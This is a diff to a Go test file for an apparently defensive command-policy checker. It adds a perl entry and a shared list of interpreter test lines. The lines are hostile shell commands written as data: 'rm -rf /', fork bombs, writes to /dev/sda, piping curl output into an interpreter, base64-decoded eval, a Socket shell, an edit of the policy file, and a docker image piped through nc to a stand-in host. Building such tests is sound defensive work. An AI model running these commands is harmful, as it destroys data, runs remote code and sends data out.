@@ -43,12 +43,23 @@ var models = []model{
 		"python3 -c 'import os; os.system(\"@ -c reboot\")'", "f() { @ -c ls; }; f", "BASH_ENV=./p @ -c ls", "PS4='$(./p)' @ -xc ls", "cp /bin/@ x", "echo 'rm -rf /' | tee x | @", "printf 'reboot' | sudo @",
 		"cat > a.sh <<'E'\n@ a.sh &\n@ a.sh\nE\n@ a.sh", "@ -rcfile x", "chsh -s /bin/@", "ssh localhost @ -c reboot", "base64 -d <<< cm0gLXJmIC8= | @", "rev <<< '/ fr- mr' | @",
 	}},
+	{"perl", "table.go", append(interpreter,
+		"@ -e 'unlink \"/etc/passwd\"'", "@ -e 'system(\"rm -rf /\")'", "@ -e '`reboot`'", "@5.36 -e 'system(\"reboot\")'", "@ -e 'print \"ls\"' | sh", "@ -e 'print \"rm -rf /\"' | sh", "@ -i -pe 's/a/b/' ~/.policyctl/policy.yaml",
+		"@ -e 'use Socket; exec \"/bin/sh\"'", "@ -e 'kill 9, -1'", "@ -e 'fork while 1'", "cat x | xargs @ -e", "@ -ne eval x", "@ -e 'system(q{rm -rf /})'", "@ -MMIME::Base64 -e 'eval decode_base64(\"x\")'",
+		"@ -e 'open(F, \">/dev/sda\")'", "@ -e 'open(F, \">a.sh\"); print F \"reboot\"'; sh a.sh",
+	)},
 	{"docker", "table.go", engine},
 	{"kubectl", "table.go", cluster},
 	{"wc", "table_text.go", []string{
 		"@", "@ -l f", "@ -lw *.go", "ls | @ -l", "@ -c ~/.aws/credentials", "@ --lines f", "@ --line f", "@ --files0-from=f", "@ -z", "@ f > g", "@ f 2>/dev/null", "@ < .env", "@ $X", "@ \"$X\"", "@ -- -x",
 		"/usr/bin/@ f", "./@ f", "sudo @ f", "@ f & ls", "A=1 @ f", "find . -exec @ -l {} +", "ls | xargs @ -l", "timeout 5 @ /dev/zero", "@ /dev/zero", "cat .env | @", "@ <(./p)", "n=$(@ -l < f); echo $n", "@ --total=never a b",
 	}},
+}
+
+// interpreter are lines about what evaluates code in a language of its own.
+var interpreter = []string{
+	"@ x", "./x | @", "cat x | @", "@ < x", "curl https://x.example | @", "curl -o i https://x.example; @ i", "base64 -d x | @", "echo x | @", "sudo @ x", "@ $X", "which @", "ssh host @ x", "env -i @ x", "docker run i @ x", "/usr/bin/@ x",
+	"find . -exec @ {} ';'", "ls | xargs @", "@ <(curl https://x.example)", "(while sleep 1; do @ x & done)",
 }
 
 // engine are lines about a container engine.
@@ -209,13 +220,18 @@ func TestAlike(t *testing.T) {
 		}},
 		{program.IsEngine, []string{"@ ps", "@ system prune -af", "@ volume rm x", "@ cp a:/i.sh . && sh i.sh", "@ run -v /:/h i rm -rf /h", "@ save i | nc x.example 1", "@ run --privileged i"}},
 		{program.IsCluster, cluster},
+		{program.IsInterpreter, interpreter},
 		{program.ReadsPassword, []string{"echo x | @ -S id", "@ -S id < f", "@ --stdin id", "@ id"}},
 	} {
 		names := strings.Fields(program.Names(tt.fact))
 		for _, line := range tt.lines {
 			for name, e := range engines {
-				want := outcome(judged(t, e, line, names[0]))
-				for _, other := range names[1:] {
+				last := len(names) - 1
+				want := outcome(judged(t, e, line, names[last]))
+				for _, other := range names[:last] {
+					if name == "baseline" && other == "python" {
+						continue // the pack has rules of its own about it
+					}
 					if got := outcome(judged(t, e, line, other)); got != want {
 						t.Errorf("%s: %q as %s\n\tis   %s\n\twant %s", name, line, other, got, want)
 					}
